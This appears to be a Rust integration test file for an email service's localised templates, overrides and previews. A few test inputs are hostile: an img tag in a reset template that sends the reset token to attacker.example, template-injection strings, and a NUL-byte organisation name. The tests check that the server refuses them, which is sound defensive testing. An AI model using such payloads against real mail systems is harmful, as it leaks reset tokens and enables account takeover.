//! The built-in emails in the reader's language, their overrides and previews, through
//! the real server and a real SMTP server: each language and the fallback chain (user's
//! tag, its language, the organisation's default, English), an organisation's override
//! over the platform's over the built-in, reset back, hostile overrides refused when saved,
//! and PreviewEmail giving what is then sent.

use mailroom::locale::Lang;
use mailroom::proto::v1 as pb;
use tonic::Code;

use crate::support::smtp::{Options, Received, SmtpServer};
use crate::support::{self, on_every_store, TestServer};

const CHANGED: pb::AccountNoticeKind = pb::AccountNoticeKind::PasswordChanged;

/// A Directory user with a locale.
async fn add_user(server: &TestServer, login: &str, organisation: &str, locale: &str) {
    server
        .directory(&server.admin_key)
        .upsert_user(pb::UpsertUserRequest {
            user: Some(pb::User {
                login: login.into(),
                name: format!("User {login}"),
                email: format!("{login}@{organisation}.example"),
                organisations: vec![organisation.into()],
                locale: locale.into(),
                ..Default::default()
            }),
        })
        .await
        .expect("upsert user");
}

/// Sends the password-changed notice to `login` of `organisation` and waits until sent.
async fn notify(server: &TestServer, login: &str, organisation: &str) {
    let ids = server
        .notifier(&server.admin_key)
        .send_account_notice(pb::SendAccountNoticeRequest {
            kind: CHANGED.into(),
            login: login.into(),
            organisation: organisation.into(),
            ..Default::default()
        })
        .await
        .expect("send the notice")
        .into_inner()
        .message_ids;
    server.wait_for_state(&ids[0], pb::MessageState::Sent).await;
}

/// The one message the SMTP server received for `to`.
fn received(smtp: &SmtpServer, to: &str) -> Received {
    let seen: Vec<Received> = smtp
        .seen()
        .messages
        .into_iter()
        .filter(|m| m.to == [to])
        .collect();
    assert_eq!(seen.len(), 1, "messages to {to}: {seen:?}");
    seen.into_iter().next().unwrap()
}

/// A message's decoded subject, text part and HTML part (line ends as LF).
fn parts(message: &Received) -> (String, String, String) {
    let parsed = mailparse::parse_mail(message.data.as_bytes()).expect("a message");
    let subject = mailparse::MailHeaderMap::get_first_value(&parsed.headers[..], "Subject")
        .unwrap_or_default();
    let mut text = String::new();
    let mut html = String::new();
    let mut all = vec![&parsed];
    while let Some(part) = all.pop() {
        all.extend(part.subparts.iter());
        match part.ctype.mimetype.as_str() {
            "text/plain" => text = part.get_body().unwrap(),
            "text/html" => html = part.get_body().unwrap(),
            _ => {}
        }
    }
    (
        subject,
        text.replace("\r\n", "\n"),
        html.replace("\r\n", "\n"),
    )
}

async fn set_default_locale(server: &TestServer, organisation: &str, locale: &str) {
    server
        .templates(&server.admin_key)
        .update_locale_settings(pb::UpdateLocaleSettingsRequest {
            organisation: organisation.into(),
            default_locale: locale.into(),
            etag: String::new(),
        })
        .await
        .expect("set the default locale");
}

#[tokio::test]
async fn each_language_and_the_fallback_chain() {
    let _watchdog = crate::support::watchdog();
    let server = TestServer::start().await;
    let smtp = SmtpServer::start(Options::default());
    server.configure_smtp(smtp.addr.port()).await;
    set_default_locale(&server, "acme", "de-AT").await;
    // (login, organisation, the user's locale, the language expected)
    let cases = [
        ("fr", "acme", "fr", Lang::Fr),
        ("frca", "acme", "fr-CA", Lang::Fr),
        ("esmx", "acme", "es-MX", Lang::Es),
        ("en", "acme", "en", Lang::En),
        ("it", "acme", "it", Lang::De),
        ("none", "acme", "", Lang::De),
        ("beta-it", "beta", "it", Lang::En),
    ];
    for (login, organisation, locale, _) in cases {
        add_user(&server, login, organisation, locale).await;
        notify(&server, login, organisation).await;
    }
    let subjects = [
        (Lang::En, "Your password was changed"),
        (Lang::Fr, "Votre mot de passe a été modifié"),
        (Lang::De, "Ihr Passwort wurde geändert"),
        (Lang::Es, "Su contraseña ha cambiado"),
    ];
    for (login, organisation, locale, lang) in cases {
        let (subject, text, html) =
            parts(&received(&smtp, &format!("{login}@{organisation}.example")));
        let expected = subjects.iter().find(|(l, _)| *l == lang).unwrap().1;
        assert_eq!(subject, expected, "{login} ({locale:?}) gets {lang}");
        let date = lang.date(server.clock.now());
        assert!(text.contains(&date), "{login}: {date} in {text}");
        assert!(html.contains(&date), "{login}: {date} in the HTML");
        assert!(html.contains(&format!("<html lang=\"{lang}\">")), "{html}");
    }
    // A default locale that is not a tag, or over a stale etag, is refused.
    let mut templates = server.templates(&server.admin_key);
    let status = templates
        .update_locale_settings(pb::UpdateLocaleSettingsRequest {
            organisation: "acme".into(),
            default_locale: "de_AT!".into(),
            etag: String::new(),
        })
        .await
        .expect_err("not a tag");
    assert_eq!(support::violated_fields(&status), ["default_locale"]);
    let status = templates
        .update_locale_settings(pb::UpdateLocaleSettingsRequest {
            organisation: "acme".into(),
            default_locale: "es".into(),
            etag: "1".into(),
        })
        .await
        .expect_err("stale");
    assert_eq!(status.code(), Code::Aborted);
    let settings = templates
        .get_locale_settings(pb::GetLocaleSettingsRequest {
            organisation: "acme".into(),
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(settings.default_locale, "de-AT");
    assert!(!settings.etag.is_empty());
    // The locale is canonical, and a tag that is not one is refused.
    let user = server
        .directory(&server.admin_key)
        .get_user(pb::GetUserRequest {
            login: "frca".into(),
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(user.locale, "fr-CA");
    let bad = server
        .directory(&server.admin_key)
        .upsert_user(pb::UpsertUserRequest {
            user: Some(pb::User {
                login: "bad".into(),
                organisations: vec!["acme".into()],
                locale: "not a tag".into(),
                ..Default::default()
            }),
        })
        .await
        .expect_err("refused");
    assert_eq!(support::violated_fields(&bad), ["user.locale"]);

    // A token email: lengths of time in words, in the invitation's locale.
    let mut invite = support::issue_request("newbie", pb::TokenPurpose::Invitation);
    invite.send_email = true;
    invite.locale = "fr".into();
    invite.link_template = "https://portal.example.com/invite?t={token}".into();
    let issued = server
        .tokens(&server.admin_key)
        .issue_token(invite)
        .await
        .expect("invite")
        .into_inner();
    server
        .wait_for_state(&issued.message_id, pb::MessageState::Sent)
        .await;
    let (subject, text, _) = parts(&received(&smtp, "newbie@example.com"));
    assert_eq!(subject, "Vous êtes invité à rejoindre acme");
    assert!(text.contains("expire dans 1 jour"), "{text}");
}

/// An override request of `kind` in `locale` with `subject`.
fn override_of(
    organisation: &str,
    platform: bool,
    locale: &str,
    subject: &str,
) -> pb::UpdateEmailTemplateRequest {
    pb::UpdateEmailTemplateRequest {
        organisation: organisation.into(),
        platform,
        kind: pb::EmailKind::PasswordChanged.into(),
        locale: locale.into(),
        subject: subject.into(),
        text_body: "Changed: {{login}} at {{time}}.\n".into(),
        html_body: "<p>Changed: <b>{{login}}</b></p>".into(),
        etag: String::new(),
    }
}

fn get_request(organisation: &str, platform: bool) -> pb::GetEmailTemplateRequest {
    pb::GetEmailTemplateRequest {
        organisation: organisation.into(),
        platform,
        kind: pb::EmailKind::PasswordChanged.into(),
        locale: "en".into(),
    }
}

#[tokio::test]
async fn overrides_take_precedence_and_reset_goes_back_on_sled_and_etcd() {
    let _watchdog = crate::support::watchdog();
    on_every_store(|server| async move {
        let smtp = SmtpServer::start(Options::default());
        server.configure_smtp(smtp.addr.port()).await;
        let acme = server.create_key("acme", &["manageConfig"]).await;
        let mut templates = server.templates(&acme);
        let mut platform = server.templates(&server.admin_key);

        let builtin = templates
            .get_email_template(get_request("", false))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(builtin.origin(), pb::TemplateOrigin::Builtin);
        assert_eq!(builtin.subject, "Your password was changed");
        assert_eq!(builtin.organisation, "acme");
        assert!(builtin.etag.is_empty());

        // An organisation's key cannot change the platform's.
        let refused = templates
            .update_email_template(override_of("", true, "en", "Platform {{login}}"))
            .await
            .expect_err("manageConfig is not managePlatform");
        assert_eq!(refused.code(), Code::PermissionDenied);

        let saved = platform
            .update_email_template(override_of("", true, "en", "Platform {{login}}"))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(saved.origin(), pb::TemplateOrigin::Platform);
        assert!(saved.platform && !saved.etag.is_empty());
        let seen = templates
            .get_email_template(get_request("", false))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(seen.origin(), pb::TemplateOrigin::Platform);
        assert!(seen.etag.is_empty(), "acme has no override of its own");

        let own = templates
            .update_email_template(override_of("", false, "en", "Acme {{login}}"))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(own.origin(), pb::TemplateOrigin::Organisation);
        assert_eq!(own.updated_by, "acme-manageConfig");

        add_user(&server, "alice", "acme", "").await;
        add_user(&server, "bob", "beta", "").await;
        add_user(&server, "frank", "acme", "fr").await;
        notify(&server, "alice", "acme").await;
        notify(&server, "bob", "beta").await;
        notify(&server, "frank", "acme").await;
        assert_eq!(
            parts(&received(&smtp, "alice@acme.example")).0,
            "Acme alice"
        );
        let (subject, text, html) = parts(&received(&smtp, "bob@beta.example"));
        assert_eq!(subject, "Platform bob", "beta gets the platform's");
        assert!(text.starts_with("Changed: bob at "), "{text}");
        assert_eq!(html, "<p>Changed: <b>bob</b></p>");
        assert_eq!(
            parts(&received(&smtp, "frank@acme.example")).0,
            "Votre mot de passe a été modifié",
            "an override is of one language: French is still the built-in"
        );

        // A stale etag is refused and changes nothing.
        let mut stale = override_of("", false, "en", "Stale {{login}}");
        stale.etag = "123".into();
        let status = templates.update_email_template(stale).await.unwrap_err();
        assert_eq!(status.code(), Code::Aborted, "{status:?}");
        let mut current = override_of("", false, "en", "Acme again {{login}}");
        current.etag = own.etag.clone();
        let again = templates
            .update_email_template(current)
            .await
            .unwrap()
            .into_inner();
        assert_ne!(again.etag, own.etag);

        // The password reset's template sees the token: manageUser too.
        let mut reset_email = override_of("", false, "en", "Reset {{login}}");
        reset_email.kind = pb::EmailKind::PasswordReset.into();
        reset_email.html_body = "<img src=\"https://attacker.example/?{{link}}\">".into();
        let status = templates
            .update_email_template(reset_email.clone())
            .await
            .expect_err("manageConfig alone");
        assert_eq!(status.code(), Code::PermissionDenied, "{status:?}");
        assert!(status.message().contains("manageUser"), "{status:?}");
        let both = server
            .create_key("acme", &["manageConfig", "manageUser"])
            .await;
        reset_email.html_body = "<p><a href=\"{{link}}\">Reset</a></p>".into();
        server
            .templates(&both)
            .update_email_template(reset_email)
            .await
            .expect("manageConfig and manageUser");
        // Nor can a key that could not write it take it away.
        let status = templates
            .reset_email_template(pb::ResetEmailTemplateRequest {
                kind: pb::EmailKind::PasswordReset.into(),
                locale: "en".into(),
                ..Default::default()
            })
            .await
            .expect_err("manageConfig alone");
        assert_eq!(status.code(), Code::PermissionDenied, "{status:?}");

        // Every kind in every language, paged.
        let mut listed = Vec::new();
        let mut page_token = String::new();
        loop {
            let page = templates
                .list_email_templates(pb::ListEmailTemplatesRequest {
                    page_size: 5,
                    page_token: page_token.clone(),
                    ..Default::default()
                })
                .await
                .unwrap()
                .into_inner();
            listed.extend(page.templates);
            if page.next_page_token.is_empty() {
                break;
            }
            page_token = page.next_page_token;
        }
        assert_eq!(listed.len(), 6 * 4);
        let origins: Vec<_> = listed
            .iter()
            .filter(|t| t.origin() != pb::TemplateOrigin::Builtin)
            .map(|t| (t.kind(), t.locale.as_str(), t.origin()))
            .collect();
        assert_eq!(
            origins,
            [
                (
                    pb::EmailKind::PasswordReset,
                    "en",
                    pb::TemplateOrigin::Organisation
                ),
                (
                    pb::EmailKind::PasswordChanged,
                    "en",
                    pb::TemplateOrigin::Organisation
                ),
            ]
        );

        // Reset: the platform's applies again, then the built-in.
        let reset = templates
            .reset_email_template(pb::ResetEmailTemplateRequest {
                kind: pb::EmailKind::PasswordChanged.into(),
                locale: "en".into(),
                ..Default::default()
            })
            .await
            .unwrap()
            .into_inner();
        assert_eq!(reset.origin(), pb::TemplateOrigin::Platform);
        assert_eq!(reset.subject, "Platform {{login}}");
        let reset = platform
            .reset_email_template(pb::ResetEmailTemplateRequest {
                platform: true,
                kind: pb::EmailKind::PasswordChanged.into(),
                locale: "en".into(),
                ..Default::default()
            })
            .await
            .unwrap()
            .into_inner();
        assert_eq!(reset.origin(), pb::TemplateOrigin::Builtin);
        assert_eq!(reset.subject, builtin.subject);
        assert_eq!(reset.html_body, builtin.html_body);
        add_user(&server, "carol", "acme", "").await;
        notify(&server, "carol", "acme").await;
        assert_eq!(
            parts(&received(&smtp, "carol@acme.example")).0,
            "Your password was changed"
        );
    })
    .await;
}

/// What breaks an override request.
type Breaks = Box<dyn Fn(&mut pb::UpdateEmailTemplateRequest)>;

#[tokio::test]
async fn a_hostile_or_broken_override_is_refused_when_saved() {
    let _watchdog = crate::support::watchdog();
    let server = TestServer::start().await;
    let mut templates = server.templates(&server.admin_key);
    let nested = "{{#if a}}".repeat(9) + &"{{/if}}".repeat(9);
    let huge = "x".repeat(256 * 1024 + 1);
    let cases: Vec<(&str, Breaks)> = vec![
        (
            "template.text_body",
            Box::new(|r| r.text_body = "{{> x}}".into()),
        ),
        (
            "template.html_body",
            Box::new(|r| r.html_body = "{{#*inline \"x\"}}{{> x}}{{/inline}}".into()),
        ),
        (
            "template.subject",
            Box::new(|r| r.subject = "{{log login}}".into()),
        ),
        (
            "template.text_body",
            Box::new(move |r| r.text_body = nested.clone()),
        ),
        (
            "template.text_body",
            Box::new(move |r| r.text_body = huge.clone()),
        ),
        (
            "template.subject",
            Box::new(|r| r.subject = "line\nbreak".into()),
        ),
        (
            "template.text_body",
            Box::new(|r| r.text_body = "{{dateFormat time \"QQ\"}}".into()),
        ),
        (
            "template.text_body",
            Box::new(|r| r.text_body = String::new()),
        ),
        ("locale", Box::new(|r| r.locale = "it".into())),
        ("kind", Box::new(|r| r.kind = 0)),
        (
            "template.html_body",
            Box::new(|r| r.html_body = "<p>{{{login}}}</p>".into()),
        ),
        // A subject is stored and listed in clear: a reset's or an invitation's must not
        // show the link, which carries the token.
        (
            "template.subject",
            Box::new(|r| {
                r.kind = pb::EmailKind::PasswordReset.into();
                r.subject = "Reset via {{link}}".into();
                r.text_body = "{{link}}".into();
            }),
        ),
        (
            "template.subject",
            Box::new(|r| {
                r.kind = pb::EmailKind::Invitation.into();
                r.subject = "{{#with link}}{{this}}{{/with}}".into();
                r.text_body = "{{link}}".into();
            }),
        ),
        // Found by a hostile review: the link behind a branch the sample values do not
        // take; unescaped values spelt otherwise; a subject far past a header's length;
        // an organisation whose name holds a NUL (its store key read as the platform's).
        (
            "template.subject",
            Box::new(|r| {
                r.kind = pb::EmailKind::PasswordReset.into();
                r.subject =
                    "Reset {{#if (eq login \"ana.example@example.com\")}}{{else}}{{link}}{{/if}}"
                        .into();
                r.text_body = "{{link}}".into();
            }),
        ),
        (
            "template.html_body",
            Box::new(|r| r.html_body = "<p>{{~{login}}}</p>".into()),
        ),
        (
            "template.html_body",
            Box::new(|r| r.html_body = "<p>{{ {login} }}</p>".into()),
        ),
        (
            "template.html_body",
            Box::new(|r| r.html_body = "<p>{{#if login}}{{~& login}}{{/if}}</p>".into()),
        ),
        (
            "template.subject",
            Box::new(|r| r.subject = "{{login}}".repeat(40)),
        ),
        (
            "organisation",
            Box::new(|r| r.organisation = "\u{0}password_reset".into()),
        ),
    ];
    for (field, break_it) in &cases {
        let mut request = override_of("", false, "en", "Changed {{login}}");
        break_it(&mut request);
        let status = templates
            .update_email_template(request)
            .await
            .expect_err(field);
        assert_eq!(status.code(), Code::InvalidArgument, "{field}: {status:?}");
        assert_eq!(support::violated_fields(&status), [*field], "{status:?}");
    }
    let still = templates
        .get_email_template(get_request("", false))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        still.origin(),
        pb::TemplateOrigin::Builtin,
        "nothing was saved"
    );
}

/// A reset's subject is rendered without the link, whatever its template says: one that
/// walks every value is saved (nothing in it names the link), and the email it sends shows
/// the token in its body only, never in the subject that ListMessages shows.
#[tokio::test]
async fn a_token_email_s_subject_never_shows_the_link() {
    let _watchdog = crate::support::watchdog();
    let server = TestServer::start().await;
    let smtp = SmtpServer::start(Options::default());
    server.configure_smtp(smtp.addr.port()).await;
    add_user(&server, "alice", "acme", "en").await;
    let mut request = override_of("acme", false, "en", "Reset{{#each this}} {{this}}{{/each}}");
    request.kind = pb::EmailKind::PasswordReset.into();
    request.text_body = "Reset here: {{link}}\n".into();
    server
        .templates(&server.admin_key)
        .update_email_template(request)
        .await
        .expect("a subject that names no link is saved");
    let mut reset = support::issue_request("alice", pb::TokenPurpose::PasswordReset);
    reset.email = String::new();
    reset.send_email = true;
    reset.link_template = "https://portal.example.com/reset?t={token}".into();
    let issued = server
        .tokens(&server.admin_key)
        .issue_token(reset)
        .await
        .expect("reset")
        .into_inner();
    server
        .wait_for_state(&issued.message_id, pb::MessageState::Sent)
        .await;
    let (subject, text, _) = parts(&received(&smtp, "alice@acme.example"));
    assert!(subject.starts_with("Reset "), "{subject}");
    assert!(
        subject.contains("alice"),
        "the other values are there: {subject}"
    );
    assert!(!subject.contains(&issued.token), "{subject}");
    assert!(!subject.contains("portal.example.com"), "{subject}");
    assert!(
        text.contains(&issued.token),
        "the link is in the body: {text}"
    );
    let listed = server
        .notifier(&server.admin_key)
        .get_message(pb::GetMessageRequest {
            id: issued.message_id.clone(),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(
        !listed.subject.contains(&issued.token),
        "{}",
        listed.subject
    );
}

/// The headers of a raw message, unfolded, without `Date` and `Message-ID`, and with the
/// multipart boundary (random per message) taken out.
fn comparable_headers(data: &str) -> Vec<(String, String)> {
    let head = data.split("\r\n\r\n").next().unwrap();
    let mut headers: Vec<(String, String)> = Vec::new();
    for line in head.split("\r\n") {
        if line.starts_with([' ', '\t']) {
            let (_, value) = headers.last_mut().unwrap();
            value.push(' ');
            value.push_str(line.trim());
        } else if let Some((name, value)) = line.split_once(':') {
            headers.push((name.to_string(), value.trim().to_string()));
        }
    }
    without_volatile(headers)
}

fn without_volatile(headers: Vec<(String, String)>) -> Vec<(String, String)> {
    headers
        .into_iter()
        .filter(|(name, _)| {
            !name.eq_ignore_ascii_case("date") && !name.eq_ignore_ascii_case("message-id")
        })
        .map(|(name, value)| {
            let value = match value.find("boundary=") {
                Some(at) => value[..at].to_string(),
                None => value,
            };
            (name, value)
        })
        .collect()
}

#[tokio::test]
async fn a_preview_is_what_is_then_sent() {
    let _watchdog = crate::support::watchdog();
    let server = TestServer::start().await;
    let smtp = SmtpServer::start(Options::default());
    server.configure_smtp(smtp.addr.port()).await;
    add_user(&server, "alice", "acme", "fr").await;
    let acme = server
        .create_key("acme", &["manageConfig", "manageUser"])
        .await;
    let mut templates = server.templates(&acme);
    // With an override of acme's in German and acme's default locale German, a user in
    // French still gets French.
    set_default_locale(&server, "acme", "de").await;
    let time = mailroom::clock::rfc3339(server.clock.now());
    let values: prost_types::Struct = prost_types::Struct {
        fields: [
            ("name", "User alice"),
            ("login", "alice"),
            ("time", time.as_str()),
        ]
        .into_iter()
        .map(|(k, v)| {
            (
                k.to_string(),
                prost_types::Value {
                    kind: Some(prost_types::value::Kind::StringValue(v.into())),
                },
            )
        })
        .collect(),
    };
    let preview = templates
        .preview_email(pb::PreviewEmailRequest {
            kind: pb::EmailKind::PasswordChanged.into(),
            locale: "fr".into(),
            values: Some(values),
            to: "alice@acme.example".into(),
            ..Default::default()
        })
        .await
        .expect("preview")
        .into_inner();
    assert_eq!(preview.locale, "fr");
    assert_eq!(preview.subject, "Votre mot de passe a été modifié");
    assert!(smtp.seen().messages.is_empty(), "a preview sends nothing");
    let ids = server
        .notifier(&acme)
        .send_account_notice(pb::SendAccountNoticeRequest {
            kind: CHANGED.into(),
            login: "alice".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .message_ids;
    server.wait_for_state(&ids[0], pb::MessageState::Sent).await;
    let sent = received(&smtp, "alice@acme.example");
    let (subject, text, html) = parts(&sent);
    assert_eq!(subject, preview.subject);
    assert_eq!(text, preview.text_body);
    assert_eq!(html, preview.html_body);
    let previewed = without_volatile(
        preview
            .headers
            .iter()
            .map(|h| (h.name.clone(), h.value.clone()))
            .collect(),
    );
    assert_eq!(comparable_headers(&sent.data), previewed);
    assert!(previewed.iter().any(|(n, _)| n == "Subject"));

    // An ad-hoc notifier template, as SendToAddresses sends it.
    let context = prost_types::Struct {
        fields: [(
            "title".to_string(),
            prost_types::Value {
                kind: Some(prost_types::value::Kind::StringValue(
                    "Case <42> & co".into(),
                )),
            },
        )]
        .into_iter()
        .collect(),
    };
    let notification = pb::NotificationTemplate {
        subject: "New case: {{title}}".into(),
        body: "<p>Hello,</p><p>{{title}} is yours.</p>".into(),
        format: pb::BodyFormat::Html.into(),
        context: Some(context.clone()),
        ..Default::default()
    };
    let preview = templates
        .preview_email(pb::PreviewEmailRequest {
            notification: Some(notification.clone()),
            to: "soc@acme.example".into(),
            ..Default::default()
        })
        .await
        .expect("preview a notification")
        .into_inner();
    let ids = server
        .notifier(&acme)
        .send_to_addresses(pb::SendToAddressesRequest {
            to: vec!["soc@acme.example".into()],
            subject: notification.subject,
            body: notification.body,
            format: notification.format,
            context: Some(context),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .message_ids;
    server.wait_for_state(&ids[0], pb::MessageState::Sent).await;
    let sent = received(&smtp, "soc@acme.example");
    let (subject, text, html) = parts(&sent);
    assert_eq!(subject, "New case: Case <42> & co");
    assert_eq!(
        (subject, text, html),
        (
            preview.subject.clone(),
            preview.text_body.clone(),
            preview.html_body.clone()
        )
    );
    let previewed = without_volatile(
        preview
            .headers
            .iter()
            .map(|h| (h.name.clone(), h.value.clone()))
            .collect(),
    );
    assert_eq!(comparable_headers(&sent.data), previewed);
}

#[tokio::test]
async fn a_preview_refuses_unknown_values_and_needs_no_smtp_settings() {
    let _watchdog = crate::support::watchdog();
    let server = TestServer::start().await;
    let mut templates = server.templates(&server.admin_key);
    let preview = templates
        .preview_email(pb::PreviewEmailRequest {
            platform: true,
            kind: pb::EmailKind::PasswordReset.into(),
            locale: "es".into(),
            ..Default::default()
        })
        .await
        .expect("samples, no SMTP settings")
        .into_inner();
    assert_eq!(preview.subject, "Restablezca su contraseña");
    assert!(
        preview.text_body.contains("caduca en 10 minutos"),
        "{}",
        preview.text_body
    );
    assert!(preview.html_body.contains("mrr_SAMPLE"));
    let values = prost_types::Struct {
        fields: [(
            "lnik".to_string(),
            prost_types::Value {
                kind: Some(prost_types::value::Kind::StringValue("x".into())),
            },
        )]
        .into_iter()
        .collect(),
    };
    let status = templates
        .preview_email(pb::PreviewEmailRequest {
            kind: pb::EmailKind::PasswordReset.into(),
            values: Some(values),
            ..Default::default()
        })
        .await
        .expect_err("unknown value");
    assert_eq!(support::violated_fields(&status), ["values.lnik"]);
    // A time past the year 9999 (chrono panicked on one past 262,143).
    let far = prost_types::Struct {
        fields: [(
            "time".to_string(),
            prost_types::Value {
                kind: Some(prost_types::value::Kind::NumberValue(8.2102984128e15)),
            },
        )]
        .into_iter()
        .collect(),
    };
    let status = templates
        .preview_email(pb::PreviewEmailRequest {
            kind: pb::EmailKind::PasswordChanged.into(),
            values: Some(far),
            ..Default::default()
        })
        .await
        .expect_err("a time past the year 9999");
    assert_eq!(support::violated_fields(&status), ["values.time"]);
    let status = templates
        .preview_email(pb::PreviewEmailRequest::default())
        .await
        .expect_err("no kind");
    assert_eq!(support::violated_fields(&status), ["kind"]);
}

#[tokio::test]
async fn the_smtp_test_email_is_in_the_locale_asked() {
    let _watchdog = crate::support::watchdog();
    let server = TestServer::start().await;
    let smtp = SmtpServer::start(Options::default());
    server.configure_smtp(smtp.addr.port()).await;
    let report = server
        .smtp(&server.admin_key)
        .test_smtp_settings(pb::TestSmtpSettingsRequest {
            recipient: "soc@example.com".into(),
            locale: "fr-FR".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert!(report.success, "{report:?}");
    let (subject, text, html) = parts(&received(&smtp, "soc@example.com"));
    assert_eq!(subject, "Test SMTP de mailroom");
    assert!(text.contains("Sécurité :         none"), "{text}");
    assert!(text.contains("aucun (pas d'authentification)"), "{text}");
    assert!(html.contains("<html lang=\"fr\">"));
}
